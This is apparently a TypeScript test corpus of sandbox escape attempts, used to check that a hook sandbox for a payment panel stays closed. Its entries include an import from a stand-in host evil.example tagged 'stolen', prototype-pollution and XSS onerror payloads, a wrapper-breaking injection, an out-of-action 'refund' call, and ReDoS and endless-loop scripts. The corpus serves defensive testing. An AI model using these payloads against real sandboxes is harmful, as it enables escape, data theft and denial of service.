/** One attempt to escape the sandbox. */
export interface EscapeAttempt {
  readonly name: string;
  /** Text of a hook. It returns "escaped", or a text that starts with this word, if the attempt succeeded. */
  readonly script: string;
  /** How the hook's call ends if the sandbox holds. */
  readonly ends: "answers" | "throws" | "timeout" | "refused";
}

const answeringAttempt = (name: string, body: string): EscapeAttempt => ({
  name,
  script: `function(){${body}}`,
  ends: "answers",
});
const reachAttempt = (name: string, expression: string): EscapeAttempt =>
  answeringAttempt(
    `reaches ${name}`,
    `try { return typeof (${expression}) === "undefined" ? "held" : "escaped " + ${JSON.stringify(name)} } catch (e) { return "held" }`,
  );

/**
 * Everything that a hostile definition might try. Tests run each attempt in a real browser, and watch the page,
 * network and storage.
 */
export const escapeCorpus: readonly EscapeAttempt[] = [
  ...[
    "window",
    "document",
    "parent",
    "top",
    "frames",
    "opener",
    "localStorage",
    "sessionStorage",
    "cookieStore",
    "indexedDB",
    "caches",
    "fetch",
    "XMLHttpRequest",
    "WebSocket",
    "WebSocketStream",
    "WebTransport",
    "EventSource",
    "RTCPeerConnection",
    "importScripts",
    "Worker",
    "SharedWorker",
    "BroadcastChannel",
    "MessageChannel",
    "MessagePort",
    "postMessage",
    "onmessage",
    "addEventListener",
    "dispatchEvent",
    "close",
    "navigator",
    "location",
    "origin",
    "performance",
    "Notification",
    "WebAssembly",
    "SharedArrayBuffer",
    "Atomics",
    "OffscreenCanvas",
    "createImageBitmap",
    "FileReader",
    "FileReaderSync",
    "Blob",
    "File",
    "Request",
    "Response",
    "FontFace",
    "trustedTypes",
    "crypto",
    "URL",
    "process",
    "require",
    "module",
  ].flatMap((name) => [
    reachAttempt(name, name),
    reachAttempt(`globalThis.${name}`, `globalThis[${JSON.stringify(name)}]`),
  ]),
  reachAttempt("fetch through Function", `Function("return this")().fetch`),
  reachAttempt("fetch through eval", `(0, eval)("globalThis").fetch`),
  reachAttempt(
    "postMessage through the scope's prototypes",
    `(function(){ for (var o = self; o; o = Object.getPrototypeOf(o)) { var d = Object.getOwnPropertyDescriptor(o, "postMessage"); if (d) return d } })()`,
  ),
  reachAttempt(
    "constructor of the scope",
    `self.constructor === Object ? undefined : self.constructor.name && Object.getPrototypeOf(self).constructor !== Object ? Object.getPrototypeOf(self).constructor : undefined`,
  ),
  reachAttempt("the sandbox's own program through a caller", `arguments.callee.caller || undefined`),
  answeringAttempt(
    "imports a module from elsewhere",
    `return import("https://evil.example/x.js?stolen").then(function(){ return "escaped" }, function(){ return "held" })`,
  ),
  answeringAttempt(
    "imports a module from a data address",
    `return import("data:text/javascript,export default 1").then(function(){ return "escaped" }, function(){ return "held" })`,
  ),
  answeringAttempt(
    "pollutes prototypes for the page",
    `Object.prototype.polluted = "escaped"; Array.prototype.map = function(){ return ["escaped"] }; return "held"`,
  ),
  answeringAttempt(
    "answers with keys that pollute",
    `return JSON.parse('{"__proto__":{"polluted":"escaped"},"constructor":{"prototype":{"polluted":"escaped"}}}')`,
  ),
  answeringAttempt(
    "uses the panel's powers outside an action",
    `return hpay.call("refund", {}).then(function(){ return "escaped" }, function(){ return "held" })`,
  ),
  answeringAttempt(
    "goes somewhere outside an action",
    `return hpay.open("https://evil.example").then(function(){ return "escaped" }, function(){ return "held" })`,
  ),
  answeringAttempt("answers markup", `return "<img src=x onerror=\\"window.polluted='escaped'\\">"`),
  answeringAttempt("hands out a forged function", `return { $run: "f1", toString: "f2" }`),
  { name: "loops forever", script: "function(){ while (true) {} }", ends: "timeout" },
  {
    name: "sends a regular expression into ruin",
    script: `function(){ return /^(a+)+$/.test("${"a".repeat(48)}!") }`,
    ends: "timeout",
  },
  { name: "never answers", script: "function(){ return new Promise(function(){}) }", ends: "timeout" },
  {
    name: "loops while it is compiled",
    script: "function(){}(function(){ while (true) {} }())",
    ends: "timeout",
  },
  {
    name: "recurses without end",
    script: "function f(){ return f() }",
    ends: "refused",
  },
  {
    name: "recurses without end, well formed",
    script: "function(){ return arguments.callee() + 1 }",
    ends: "throws",
  },
  { name: "answers a ring", script: "function(){ var a = {}; a.a = a; return a }", ends: "throws" },
  {
    name: "answers more than a page can hold",
    script: `function(){ return "x".repeat(5000000) }`,
    ends: "throws",
  },
  { name: "throws something unprintable", script: "function(){ throw { toString: null } }", ends: "throws" },
  { name: "is an arrow, not a function text", script: "() => 'escaped'", ends: "refused" },
  { name: "is a call in disguise", script: "(function(){ return 'escaped' })()", ends: "refused" },
  {
    name: "leaves its own wrapper",
    script: "function(){}); self.polluted = 1; (function(){ return 'escaped' }",
    ends: "answers",
  },
];
